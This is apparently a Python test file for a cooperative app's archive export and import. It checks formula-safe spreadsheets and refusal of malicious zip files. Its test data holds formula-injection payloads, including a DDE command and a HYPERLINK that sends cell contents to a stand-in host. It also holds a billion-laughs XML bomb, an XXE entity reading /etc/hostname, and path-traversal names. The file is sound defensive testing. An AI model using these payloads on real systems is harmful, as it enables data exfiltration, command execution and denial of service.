"""A file that leaves stays a table of texts and numbers: nothing in it computes, and it comes back as it was.

The workbook types every text as text. The CSV is the public contract, the same text byte for byte: no sign is put in
front, so that a name that begins with «=» is still that name when it comes back; spreadsheets that open a CSV are told
by the guide to import its columns as text.
"""

import io
import zipfile
from typing import Any

import pytest
from openpyxl import load_workbook

from cjs_app.coop.archive.domain.columns import Kind
from cjs_app.coop.archive.domain.tables import SEASON, TABLES
from cjs_app.coop.archive.reader import LARGEST_CONTENT, read_bytes
from cjs_app.coop.archive.writer import example_tables, xlsx_bytes, zip_bytes
from cjs_app.kernel.refusal import Refusal

FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://mechant.example?"&A1,"Awa")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-2",
    "@SUM(A1)",
    "\t=1+1",
    " =1+1",
    "＝1+1",
    "'=1+1",
    '"=1+1"',
    "=1+1;=2+2",
    "a\n=1+1",
    "|=1",
    "%0A=1",
    "=DDE()",
    "00123",
    "1e5",
    "2021-07-13",
    "TRUE",
    "#REF!",
]
TEXTS = [
    (table.name, place)
    for table in TABLES
    for place, column in enumerate(table.columns)
    if column.kind is Kind.TEXT and table.name != SEASON
]


def planted(payload: str) -> dict[str, list[list[str]]]:
    """Return a summer with a payload in every text of every table."""
    tables: dict[str, list[list[str]]] = {name: [list(row) for row in rows] for name, rows in example_tables().items()}
    for name, place in TEXTS:
        for row in tables[name]:
            row[place] = payload
    return tables


def body(tables: Any, name: str) -> list[tuple[str, ...]]:
    """Return the rows of a table that was read again, without its header."""
    (found,) = [table for table in tables if table.name == name]
    return [tuple(row.cells) for row in found.rows[1:]]


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_cell_of_a_workbook_computes_and_every_text_comes_back(payload: str) -> None:
    tables = planted(payload)
    content = xlsx_bytes(tables)
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        sheets = b"".join(parts.read(name) for name in parts.namelist() if "worksheets/" in name)
        assert b"<f>" not in sheets and b"<f " not in sheets
        assert not [name for name in parts.namelist() if "externalLink" in name or "vba" in name]
    types = {cell.data_type for sheet in load_workbook(io.BytesIO(content)) for row in sheet for cell in row}
    assert "f" not in types and "e" not in types
    again = read_bytes(content)
    for name, place in TEXTS:
        assert [row[place] for row in body(again, name)] == [payload] * len(tables[name]), name


@pytest.mark.parametrize("payload", FORMULAS)
def test_every_text_of_a_csv_comes_back_as_it_was(payload: str) -> None:
    tables = planted(payload)
    again = read_bytes(zip_bytes(tables))
    for name, place in TEXTS:
        assert [row[place] for row in body(again, name)] == [payload] * len(tables[name]), name


def test_negative_amounts_stay_numbers() -> None:
    tables = planted("x")
    place = next(place for place, column in enumerate(TABLES[-4].columns) if column.kind is Kind.MONEY)
    name = TABLES[-4].name
    tables[name][0][place] = "-12,50"
    cells = [cell for row in load_workbook(io.BytesIO(xlsx_bytes(tables)))[name] for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "n" and cell.column == place + 1 and cell.row > 1] == [
        -12.5
    ]


def zipped(*files: tuple[str, bytes]) -> bytes:
    """Return a .zip of these files."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files:
            archive.writestr(name, content)
    return out.getvalue()


ZEROS = b"0" * (LARGEST_CONTENT + 1)
BOMBS = {
    "one file that swells": lambda: zipped(("saison.csv", ZEROS)),
    "many that swell together": lambda: zipped(*((f"{n}.csv", ZEROS[: LARGEST_CONTENT // 8]) for n in range(9))),
    "a workbook that swells": lambda: zipped(("xl/workbook.xml", b"<workbook/>"), ("xl/worksheets/sheet1.xml", ZEROS)),
    "a hundred thousand files": lambda: zipped(*((f"{n}.csv", b"") for n in range(20_000))),
    "an archive in an archive": lambda: zipped(("saison.zip", zipped(("saison.csv", ZEROS)))),
    "a workbook of nested entities": lambda: zipped(("xl/workbook.xml", LAUGHS), ("[Content_Types].xml", LAUGHS)),
}
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    + b"".join(b'<!ENTITY %c "%s">' % (99 + n, b"&%c;" % (98 + n) * 10) for n in range(9))
    + b"]><workbook>&k;</workbook>"
)


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_bomb_is_refused_without_being_unpacked(bomb: str) -> None:
    content = BOMBS[bomb]()
    with pytest.raises(Refusal):
        read_bytes(content)


def test_a_workbook_that_asks_for_files_of_the_server_gets_none() -> None:
    asks = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><workbook>&x;</workbook>'
    with pytest.raises(Refusal):
        read_bytes(zipped(("xl/workbook.xml", asks), ("[Content_Types].xml", asks)))


ELSEWHERE = [
    "../saison.csv",
    "/etc/saison.csv",
    "a/../../saison.csv",
    "..\\saison.csv",
    "C:\\saison.csv",
    "\\\\h\\s\\saison.csv",
]


@pytest.mark.parametrize("name", ELSEWHERE)
def test_a_name_that_climbs_out_of_its_folder_is_refused(name: str) -> None:
    with pytest.raises(Refusal):
        read_bytes(zipped((name, b"champ;valeur\nnom;x\n")))
